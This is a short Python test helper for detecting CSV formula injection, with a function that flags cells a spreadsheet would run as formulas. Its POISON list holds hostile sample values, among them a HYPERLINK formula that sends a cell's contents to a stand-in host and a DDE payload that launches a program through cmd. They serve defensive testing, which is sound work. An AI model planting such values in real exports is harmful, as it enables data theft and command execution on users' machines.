"""What every CSV test asks: does any cell start like a spreadsheet formula?"""

from __future__ import annotations

import csv
import io

from core.csvfiles import FORMULA_TRIGGERS

# A hostile value for each character a spreadsheet starts a formula with.
POISON = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def formula_cells(text: str) -> list[str]:
    """Every cell of the CSV document ``text`` that a spreadsheet would run."""
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)]
